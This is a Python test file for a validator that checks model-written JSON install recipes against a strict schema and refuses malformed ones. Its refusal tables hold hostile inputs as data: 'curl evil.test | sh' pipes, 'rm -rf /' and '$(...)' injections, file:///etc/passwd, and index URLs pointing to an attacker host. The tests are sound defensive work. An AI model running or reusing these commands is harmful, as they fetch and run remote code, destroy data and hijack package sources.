"""Drafts: the schema is strict, a reply is read or refused, what is not of its field's grammar is refused by name."""

from __future__ import annotations

import json
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from structured_bench import DAY, RECIPE, drafted

from installers.brief.draft import FIELDS, Draft, definition, form, kept, read_draft, recipe_of
from installers.brief.proposals import draft_of, edits_of, tried_before
from installers.interface import Attempt, Refusal, Signature
from installers.memory import identity
from miner.core.reasons import Reason
from miner.core.records import BuildMode, Recipe

PYTHONS = ("3.8", "3.9", "3.10")
STRICT = {"type", "properties", "required", "additionalProperties", "items", "enum", "description"}


def read(**changes):
    draft = read_draft(json.dumps(drafted(**changes)))
    assert isinstance(draft, Draft), draft
    return draft


def made(declared=RECIPE, **changes):
    return recipe_of(read(**changes), declared, PYTHONS)


def refused(declared=RECIPE, **changes):
    found = made(declared, **changes)
    assert isinstance(found, Refusal), found
    assert found.reason is Reason.MODEL_REPLY_UNUSABLE
    return found.detail


def objects(schema):
    yield schema
    for value in (*schema.get("properties", {}).values(), *([schema["items"]] if "items" in schema else [])):
        yield from objects(value)


def test_the_schema_keeps_to_what_strict_mode_allows():
    for one in objects(definition(PYTHONS)):
        assert set(one) <= STRICT
        if one["type"] == "object":
            assert one["additionalProperties"] is False
            assert one["required"] == list(one["properties"])
    assert set(definition(PYTHONS)["properties"]) == set(Draft.model_fields) == {*FIELDS, "reasons", "give_up"}
    assert form(PYTHONS).definition["properties"]["python"]["enum"] == list(PYTHONS)


def test_a_declared_recipe_as_a_draft_is_that_recipe():
    assert made() == RECIPE


@pytest.mark.parametrize(
    "around",
    [
        "{}",
        "```json\n{}\n```",
        "Here is the recipe:\n\n```\n{}\n```\nIt asks for {{what}} the tests import.",
        "<think>I could use {{braces}}.</think>\n{}",
        "[{}]",
    ],
)
def test_one_object_is_read_whatever_stands_around_it(around):
    text = around.replace("{}", json.dumps(drafted())).replace("{{", "{").replace("}}", "}")
    assert isinstance(read_draft(text), Draft)


ONE = json.dumps(drafted())
UNREADABLE = {
    "two objects": (f"{ONE}\n{ONE}", "2 JSON objects"),
    "an example before it": ('{"python": "3.8"}\n' + ONE, "2 JSON objects"),
    "no object": ("I would take Python 3.9.", "no JSON object"),
    "nothing": ("", "no JSON object"),
    "cut off": (ONE[:-20], "no valid JSON"),
    "cut off after a whole one": (f"{ONE}\n{ONE[:40]}", "no valid JSON"),
    "an object in a broken one": (f'{{"recipe": {ONE}, "x": oops}}', "no valid JSON"),
    "a list": ("[1, 2]", "no JSON object"),
    "single quotes": (str(drafted()), "no JSON object"),
    "a name twice": (ONE.replace('"python"', '"python": "3.8", "python"', 1), "twice"),
    "not a number": (ONE.replace('"3.9"', "NaN", 1), "NaN"),
    "a number for a text": (ONE.replace('"3.9"', "3.9", 1), "python"),
    "a field too many": (json.dumps({**drafted(), "commands": ["curl x | sh"]}), "commands"),
    "a field too few": (json.dumps({k: v for k, v in drafted().items() if k != "env"}), "env"),
    "a text for a list": (json.dumps(drafted(requirements="pytest")), "requirements"),
    "a map of variables": (json.dumps(drafted(env={"A": "b"})), "env"),
    "an unknown mode": (json.dumps(drafted(modes=["develop"])), "modes"),
    "a reason for no field": (json.dumps(drafted(reasons=[{"field": "tests", "reason": "x"}])), "reasons"),
    "a number beyond all bounds": ('{"python": ' + "9" * 5000 + "}", "no valid JSON"),
    "nested as deep as Python reads": ('{"a": ' + "[" * 60 + "]" * 60 + "}", "nested more than 50"),
    "nested without end": ('{"a":' * 30_000, "no valid JSON"),
    "longer than any draft": (" " * 300_000 + ONE, "longer"),
    "half of a character": (ONE.replace('"3.9"', '"\\ud800"', 1), ""),
}


@pytest.mark.parametrize("case", UNREADABLE)
def test_what_is_ambiguous_or_wrong_is_refused(case):
    text, says = UNREADABLE[case]
    found = read_draft(text)
    assert isinstance(found, Refusal)
    assert found.reason is Reason.MODEL_REPLY_UNUSABLE
    assert says in found.detail
    assert len(found.detail) < 1200


@given(
    st.one_of(st.text(), st.text(alphabet='{}[]":,\\ \n0a'), st.builds(lambda a, b: a + ONE + b, st.text(), st.text()))
)
@settings(max_examples=300, deadline=None)
def test_reading_never_raises(text):
    assert isinstance(read_draft(text), Draft | Refusal)


TEXTS = st.lists(st.text(max_size=30), max_size=4).map(tuple)
VARIABLES = st.lists(st.fixed_dictionaries({"name": st.text(max_size=8), "value": st.text(max_size=8)}), max_size=3)


@given(
    st.fixed_dictionaries(
        {
            "python": st.text(max_size=6),
            **dict.fromkeys(("requirements", "constraints", "overrides", "build_requirements", "addopts"), TEXTS),
            "build_constraints": TEXTS,
            "system_packages": TEXTS,
            "env": VARIABLES,
            "build_env": VARIABLES,
            "modes": st.lists(st.sampled_from([mode.value for mode in BuildMode]), max_size=4),
        }
    )
)
@settings(max_examples=100, deadline=None)
def test_checking_never_raises(fields):
    draft = read_draft(json.dumps({**drafted(), **fields}))
    if isinstance(draft, Draft):
        assert isinstance(recipe_of(draft, RECIPE, PYTHONS), Recipe | Refusal)


REFUSED = {
    "a Python that is not offered": ({"python": "2.7"}, "python: '2.7' is none of 3.8, 3.9, 3.10"),
    "a URL": ({"requirements": ["demo2 @ https://evil.test/x.whl"]}, "names an address"),
    "a file": ({"requirements": ["demo2 @ file:///etc/passwd"]}, "names an address"),
    "a repository": ({"requirements": ["git+https://github.test/a/b.git"]}, "no PEP 508"),
    "a path": ({"build_requirements": ["./vendor"]}, "no PEP 508"),
    "an option": ({"requirements": ["--index-url=https://evil.test/simple"]}, "no PEP 508"),
    "a file of requirements": ({"constraints": ["-r requirements.txt"]}, "no PEP 508"),
    "an editable one": ({"requirements": ["-e ."]}, "no PEP 508"),
    "shell": ({"requirements": ["attrs; curl evil.test | sh"]}, "no PEP 508"),
    "a substitution": ({"requirements": ["$(touch /tmp/x)"]}, "no PEP 508"),
    "a line break": ({"requirements": ["attrs\n--index-url=x"]}, "control characters"),
    "a null byte": ({"overrides": ["attrs\0"]}, "control characters"),
    "too long a requirement": ({"requirements": ["a" * 1000]}, "too long"),
    "too many requirements": ({"requirements": [f"a{number}" for number in range(700)]}, "more than 600"),
    "the project itself": ({"requirements": ["Demo==1.0"]}, "the project itself"),
    "an extra of the project": ({"requirements": ["demo[test]"]}, "the project itself"),
    "the project as a constraint": ({"constraints": ["demo<2"]}, "the project itself"),
    "a Debian package that is none": ({"system_packages": ["libpq-dev; rm -rf /"]}, "no name of a Debian package"),
    "an option to apt": ({"system_packages": ["-o=APT::x"]}, "no name of a Debian package"),
    "the removal of a package": ({"system_packages": ["python3-"]}, "no name of a Debian package"),
    "too many packages": ({"system_packages": [f"a{number}" for number in range(200)]}, "more than 100"),
    "a variable that is none": ({"env": [{"name": "A B", "value": "1"}]}, "no name of a variable"),
    "a variable with shell": ({"build_env": [{"name": "A=1;B", "value": "1"}]}, "no name of a variable"),
    "a value of two lines": ({"env": [{"name": "A", "value": "1\n2"}]}, "control characters"),
    "a value that is too long": ({"env": [{"name": "A", "value": "x" * 5000}]}, "too long"),
    "a variable twice": ({"env": [{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]}, "set twice"),
    "another index": (
        {"build_env": [{"name": "UV_INDEX_URL", "value": "https://evil.test"}]},
        "belongs to the installer",
    ),
    "another date": ({"env": [{"name": "PIP_UPLOADED_PRIOR_TO", "value": "2030"}]}, "belongs to the installer"),
    "too many variables": ({"env": [{"name": f"A{n}", "value": ""} for n in range(99)]}, "more than 50"),
    "no way to install": ({"modes": []}, "modes"),
    "an empty option": ({"addopts": [""]}, "no word"),
    "an option with a line break": ({"addopts": ["-p\nno:x"]}, "no word"),
    "too many options": ({"addopts": ["-v"] * 50}, "more than 30"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_not_of_its_grammar_is_refused(case):
    changes, says = REFUSED[case]
    assert says in refused(**changes)


def test_giving_up_wins_over_any_recipe():
    found = made(give_up="  it needs a\ngraphics processor ")
    assert isinstance(found, Refusal)
    assert found.reason is Reason.MODEL_GAVE_UP
    assert found.detail == "the model gives up: it needs a graphics processor"
    assert made(give_up=" ") == RECIPE


def test_what_is_declared_is_taken_as_it_stands():
    odd = RECIPE.model_copy(update={"requirements": ("pytest", "x @ https://host.test/x.whl"), "env": {"PIP_X": "1"}})
    assert recipe_of(Draft.model_validate_json(json.dumps(drafted(odd, odd)), strict=True), odd, PYTHONS) == odd


def test_the_same_requirements_in_other_words_are_the_same_recipe():
    found = made(requirements=["pytest", "Attrs >= 20", "attrs>=20"])
    assert isinstance(found, Recipe)
    assert identity(found) == identity(RECIPE)


def test_what_is_new_follows_what_is_declared():
    found = made(requirements=["pyyaml<6", "pytest", "attrs>=20"])
    assert isinstance(found, Recipe)
    assert found.requirements == ("attrs>=20", "pytest", "pyyaml<6")


def test_the_runner_is_always_asked_for():
    found = made(requirements=["pytest-mock"])
    assert isinstance(found, Recipe)
    assert found.requirements == ("pytest", "pytest-mock")


def test_fields_that_a_draft_does_not_have_stay():
    declared = RECIPE.model_copy(update={"fallback": 1, "exempt": ("atomicwrites",), "notes": ("x",)})
    found = made(declared, python="3.8")
    assert isinstance(found, Recipe)
    assert (found.python, found.fallback, found.exempt, found.notes) == ("3.8", 1, ("atomicwrites",), ("x",))


def test_options_are_added_and_repeating_the_declared_ones_adds_none():
    added, repeated = made(addopts=["--ds=demo.settings"]), made(addopts=["--strict-markers", "--ds=demo.settings"])
    assert added == repeated
    assert isinstance(added, Recipe)
    assert added.addopts == ("--strict-markers", "--ds=demo.settings")


def test_a_compiled_mode_brings_the_tool_chain():
    found = made(modes=["compiled", "normal", "compiled"])
    assert isinstance(found, Recipe)
    assert (found.modes, found.compiled) == ((BuildMode.COMPILED, BuildMode.NORMAL), True)


def test_very_long_lists_of_bounds_are_added_to():
    bounds = tuple(f"a{number}<2" for number in range(50))
    declared = RECIPE.model_copy(update={"constraints": bounds})
    assert kept(declared) == {"constraints": 50}
    assert draft_of(declared, declared)["constraints"] == []
    found = made(declared, constraints=["numpy<2"])
    assert isinstance(found, Recipe)
    assert found.constraints == (*bounds, "numpy<2")


NAMES = st.text(alphabet=string.ascii_lowercase, min_size=1, max_size=6)
RECIPES = st.builds(
    lambda requirements, constraints, packages, env, modes, options: RECIPE.model_copy(
        update={
            "requirements": ("pytest", *(f"q{one}" for one in requirements)),
            "constraints": tuple(f"{one}<2" for one in constraints if one != "demo"),
            "system_packages": tuple(f"lib{one}" for one in packages),
            "env": env,
            "modes": tuple(modes),
            "addopts": (*RECIPE.addopts, *options),
        }
    ),
    st.lists(NAMES, unique=True),
    st.lists(NAMES, unique=True),
    st.lists(NAMES, unique=True),
    st.dictionaries(NAMES, st.text(alphabet=string.printable[:90])),
    st.lists(st.sampled_from([BuildMode.EDITABLE, BuildMode.NORMAL]), unique=True, min_size=1),
    st.lists(NAMES),
)


@given(RECIPES)
@settings(max_examples=100, deadline=None)
def test_a_recipe_that_is_shown_comes_back_as_it_is(recipe):
    found = recipe_of(read(**draft_of(recipe, RECIPE)), RECIPE, PYTHONS)
    assert isinstance(found, Recipe)
    assert identity(found) == identity(recipe)


def test_edits_hold_the_reasons_of_what_changed():
    reasons = [
        {"field": "requirements", "reason": "tests/test_x.py imports\nyaml " + "x" * 500},
        {"field": "python", "reason": "not changed at all"},
    ]
    draft = read(requirements=["attrs>=20", "pytest", "pyyaml"], env=[{"name": "A", "value": "b"}], reasons=reasons)
    after = recipe_of(draft, RECIPE, PYTHONS)
    assert isinstance(after, Recipe)
    signature = Signature(kind="missing-module", subject="yaml")
    edits = edits_of(draft, RECIPE, after, rule="structured", signature=signature)
    assert [edit.why.partition(": ")[0] for edit in edits] == ["requirements", "env"]
    assert edits[0].why.startswith("requirements: tests/test_x.py imports yaml xx")
    assert edits[1].why == "env: the model gives no reason"
    assert all(edit.rule == "structured" and edit.signature == signature and len(edit.why) <= 300 for edit in edits)


def attempt(recipe, outcome, number):
    return Attempt(repository="r", rung="repair", number=number, recipe=recipe, cutoff=DAY, outcome=outcome)


def test_what_was_tried_is_refused_and_says_when():
    other = RECIPE.model_copy(update={"python": "3.8"})
    past = [attempt(other, "ok", 0), attempt(RECIPE, "lock-failed", 1)]
    found = tried_before(RECIPE, past)
    assert found is not None
    assert "was tried before: attempt 1 (repair), lock-failed" in found.detail
    assert tried_before(RECIPE.model_copy(update={"python": "3.10"}), past) is None


def test_a_recipe_that_stands_for_none_was_not_tried():
    assert (
        tried_before(RECIPE, [attempt(RECIPE, "model-reply-unusable", 0), attempt(RECIPE, "model-gave-up", 1)]) is None
    )
    assert tried_before(RECIPE, [attempt(RECIPE, "model-weakens-tests", 0)]) is not None


@pytest.mark.parametrize("depth", range(850, 1000, 10))
def test_depth_at_which_reading_or_writing_json_fails_is_refused(depth):
    lists, objects = "[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth
    for text in (f'{{"a": {lists}}}', objects):
        assert isinstance(read_draft(text), Refusal)
